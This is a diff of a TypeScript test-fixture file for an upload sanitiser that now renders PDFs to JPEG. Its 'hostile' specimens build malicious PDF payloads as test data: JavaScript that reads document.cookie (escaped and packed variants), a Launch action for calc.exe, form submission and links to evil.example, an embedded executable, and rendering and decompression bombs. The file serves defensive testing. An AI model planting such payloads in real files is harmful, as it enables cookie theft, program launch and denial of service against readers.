@@ -1,10 +1,11 @@
 /** Honest and hostile files by name, with what must become of each. */
 import { deflateSync, gzipSync } from 'node:zlib'
-import { bmp, frames, heic, modernPdf, pdf, picture, zip } from '../../../testing/pictures.ts'
+import { modernPdf, type PdfObject, packedStream, pageBox, pdf, pdfOfPages } from '../../../testing/pdfs.ts'
+import { bmp, frames, heic, picture, zip } from '../../../testing/pictures.ts'
 import { chunk, greyPng } from '../../../testing/png-chunks.ts'
-import type { DocumentType } from '../document.ts'
 
-export type Verdict = DocumentType | 'kind' | 'mixed' | 'moving' | 'pixels' | 'damaged' | 'active' | 'locked'
+/** What a file becomes, or why it is refused. */
+export type Verdict = 'image/jpeg' | 'kind' | 'mixed' | 'moving' | 'pixels' | 'pages' | 'damaged' | 'locked' | 'costly'
 type Specimen = readonly [name: string, make: () => Buffer | Promise<Buffer>, verdict: Verdict]
 
 const latin = (text: string) => Buffer.from(text, 'latin1')
@@ -106,9 +107,11 @@ export const honest: readonly Specimen[] = [
   ['a BMP from the top down', () => bmp(30, 20, { bits: 24, topDown: true }), 'image/jpeg'],
   ['a HEIC', () => heic(), 'image/jpeg'],
   ['a HEIC of the brand mif1', () => patched(heic(), (bytes) => void bytes.write('mif1', 8)), 'image/jpeg'],
-  ['a PDF', () => pdf(), 'application/pdf'],
-  ['a PDF with a table in a stream', () => modernPdf(), 'application/pdf'],
-  ['a PDF filled up with zeros', () => pdf({ tail: '\0'.repeat(300) }), 'application/pdf'],
+  ['a PDF', () => pdf(), 'image/jpeg'],
+  ['a PDF of five pages', () => pdfOfPages(5), 'image/jpeg'],
+  ['a PDF whose objects and table are in streams', () => modernPdf(), 'image/jpeg'],
+  ['a PDF filled up with zeros', () => pdf({ tail: '\0'.repeat(300) }), 'image/jpeg'],
+  ['a PDF with a photo on it', pdfOfPhoto, 'image/jpeg'],
 ]
 
 /** Zeros behind the end mean nothing to a JPEG. */
@@ -190,10 +193,128 @@ const broken: readonly Specimen[] = [
   ['the beginning of a PDF', () => latin('%PDF-1.4\n'), 'damaged'],
   ['a PDF whose table is nowhere', () => latin('%PDF-1.4\nhello\nstartxref\n2\n%%EOF'), 'damaged'],
   ['a PDF with something behind it', () => pdf({ tail: 'x'.repeat(2000) }), 'damaged'],
-  ['a PDF with a script', () => pdf({ objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }), 'active'],
-  ['a PDF that starts a program', () => pdf({ objects: ['<< /S /Launch /F (calc.exe) >>'] }), 'active'],
-  ['a PDF with a file in it', () => pdf({ objects: ['<< /Type /EmbeddedFile /Length 0 >>'] }), 'active'],
-  ['a PDF with a password', () => pdf({ objects: ['<< /Encrypt 5 0 R >>'] }), 'locked'],
 ]
 
-export const hostile: readonly Specimen[] = [...otherKinds, ...mixed, ...floods, ...broken]
+const secret = `(${'x'.repeat(32)})`
+const lock = `<< /Filter /Standard /V 1 /R 2 /O ${secret} /U ${secret} /P -4 >>`
+const foreignLock = '<< /Filter /Somebodys.Own /V 1 >>'
+const alert = 'app.alert(document.cookie)'
+const act = (action: string, more: readonly PdfObject[] = []) =>
+  pdf({ catalogue: '/OpenAction 5 0 R', page: '/AA << /O 5 0 R >>', objects: [action, ...more] })
+const link = (action: string) =>
+  pdf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ${action} >>]` })
+
+/** Nothing that acts survives being drawn: these become pictures of what they show. */
+const activePdfs: readonly Specimen[] = [
+  ['a PDF with a script', () => act(`<< /S /JavaScript /JS (${alert}) >>`), 'image/jpeg'],
+  ['a PDF with a script by an escaped name', () => act(`<< /S /J#61vaScrip#74 /J#53 (${alert}) >>`), 'image/jpeg'],
+  [
+    'a PDF with a packed script',
+    () => act('<< /S /JavaScript /JS 6 0 R >>', [packedStream(latin(alert))]),
+    'image/jpeg',
+  ],
+  [
+    'a PDF with a script in an object stream',
+    () => modernPdf({ catalogue: '/OpenAction 5 0 R', objects: [`<< /S /JavaScript /JS (${alert}) >>`] }),
+    'image/jpeg',
+  ],
+  ['a PDF that starts a program', () => act('<< /S /Launch /F (calc.exe) >>'), 'image/jpeg'],
+  ['a PDF with a link', () => link('<< /S /URI /URI (https://evil.example) >>'), 'image/jpeg'],
+  ['a PDF that sends a form', () => link('<< /S /SubmitForm /F (https://evil.example) >>'), 'image/jpeg'],
+  ['a PDF that leads to another', () => act('<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0 /Fit] >>'), 'image/jpeg'],
+  [
+    'a PDF with a file in it',
+    () =>
+      pdf({
+        catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
+        objects: [
+          '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
+          packedStream(latin('MZ'), '/Type /EmbeddedFile'),
+        ],
+      }),
+    'image/jpeg',
+  ],
+  [
+    'a PDF with a form of another kind',
+    () => pdf({ catalogue: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: [packedStream(latin('<xdp:xdp/>'))] }),
+    'image/jpeg',
+  ],
+  ['a PDF behind whose end lies a film', () => pdf({ tail: '\0\0\0\x18ftypmp42' }), 'damaged'],
+]
+
+const lockedPdfs: readonly Specimen[] = [
+  ['a PDF with a password', () => pdf({ trailer: `/Encrypt ${lock} /ID [(a) (a)]` }), 'locked'],
+  ['a PDF with a lock that nobody knows', () => pdf({ trailer: `/Encrypt ${foreignLock} /ID [(a) (a)]` }), 'locked'],
+]
+
+const nestedForms = 9
+/** Each form draws the next one ten times. */
+const laughs = (): Buffer => {
+  const forms = Array.from({ length: nestedForms }, (_, place): PdfObject => {
+    const isLast = place === nestedForms - 1
+    const next = isLast ? '' : `/Resources << /XObject << /X ${place + 6} 0 R >> >>`
+    const data = latin(isLast ? '0 0 9 9 re f' : '/X Do '.repeat(10))
+    return { entries: `/Type /XObject /Subtype /Form /BBox [0 0 300 200] ${next}`, data }
+  })
+  return pdf({ page: '/Resources << /XObject << /X 5 0 R >> >>', content: latin('/X Do '.repeat(10)), objects: forms })
+}
+
+const ownBox = (box: string) => pdf({ pages: '<< /Type /Pages /Kids [5 0 R] /Count 1 >>', objects: [pageWith(box)] })
+const pageWith = (box: string) => `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R >>`
+
+const oddPdfs: readonly Specimen[] = [
+  ['a PDF of no pages', () => pdf({ pages: '<< /Type /Pages /Kids [] /Count 0 >>' }), 'damaged'],
+  ['a PDF of six pages', () => pdfOfPages(6), 'pages'],
+  ['a PDF of 10,000 pages', () => pdfOfPages(10_000), 'pages'],
+  [
+    'a PDF that says it has 10,000 pages',
+    () => pdf({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 10000 >>' }),
+    'pages',
+  ],
+  ['a PDF whose pages hold themselves', () => pdf({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }), 'damaged'],
+  [
+    'a PDF whose pages go in a circle',
+    () =>
+      pdf({
+        pages: '<< /Type /Pages /Kids [5 0 R] /Count 3 >>',
+        objects: ['<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 3 >>'],
+      }),
+    'damaged',
+  ],
+  ['a PDF with a page of a million miles', () => ownBox('[0 0 1e14 1e14]'), 'image/jpeg'],
+  ['a PDF with a page of nothing', () => ownBox('[0 0 0 0]'), 'image/jpeg'],
+  ['a PDF with a page like a thread', () => ownBox('[0 0 14400 0.001]'), 'image/jpeg'],
+  ['a PDF that draws without end', laughs, 'costly'],
+  ['a PDF whose drawing unpacks to 400 MB', () => packedContent(Buffer.alloc(400_000_000, 'q Q ')), 'costly'],
+  ['a PDF with a photo of 4 billion pixels', floodedPhoto, 'image/jpeg'],
+]
+
+function packedContent(content: Buffer): Buffer {
+  const page = `<< /Type /Page /Parent 2 0 R ${pageBox} /Contents 6 0 R >>`
+  return pdf({ pages: '<< /Type /Pages /Kids [5 0 R] /Count 1 >>', objects: [page, packedStream(content)] })
+}
+
+function photoOnPage(image: PdfObject): Buffer {
+  const page = '/Resources << /XObject << /X 5 0 R >> >>'
+  return pdf({ page, content: latin('300 0 0 200 0 0 cm /X Do'), objects: [image] })
+}
+
+async function pdfOfPhoto(): Promise<Buffer> {
+  const entries = '/Type /XObject /Subtype /Image /Width 320 /Height 200 /ColorSpace /DeviceRGB /BitsPerComponent 8'
+  return photoOnPage({ entries: `${entries} /Filter /DCTDecode`, data: await jpeg() })
+}
+
+function floodedPhoto(): Buffer {
+  const entries = '/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /ColorSpace /DeviceRGB /BitsPerComponent 8'
+  return photoOnPage(packedStream(Buffer.alloc(50_000_000), entries))
+}
+
+export const hostile: readonly Specimen[] = [
+  ...otherKinds,
+  ...mixed,
+  ...floods,
+  ...broken,
+  ...activePdfs,
+  ...lockedPdfs,
+  ...oddPdfs,
+]
